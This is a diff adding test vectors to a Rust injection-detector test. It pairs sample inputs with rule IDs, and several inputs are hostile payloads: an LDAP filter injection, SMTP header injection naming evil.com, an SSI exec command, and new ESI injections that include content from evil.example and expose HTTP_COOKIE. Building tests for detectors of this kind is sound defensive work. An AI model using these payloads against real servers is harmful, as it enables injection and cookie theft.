@@ -170,6 +170,9 @@ fn detector_vectors() {
         ("*)(uid=*))(|(uid=*", "8200"),
         ("\r\nRCPT TO: test@evil.com\r\n", "8300"),
         ("<!--#exec cmd=\"ls\" -->", "8400"),
+        ("<esi:include src=\"http://evil.example/x\"/>", "8401"),
+        ("<ESI:vars>$(HTTP_COOKIE)</esi:vars>", "8401"),
+        ("Our CDN supports ESI; see the esi:include docs", ""),
         ("Meet me at 10; bring the report & the slides", ""),
         (
             "Dear team,\nFrom: Sales <sales@example.com>\nSubject: your order",
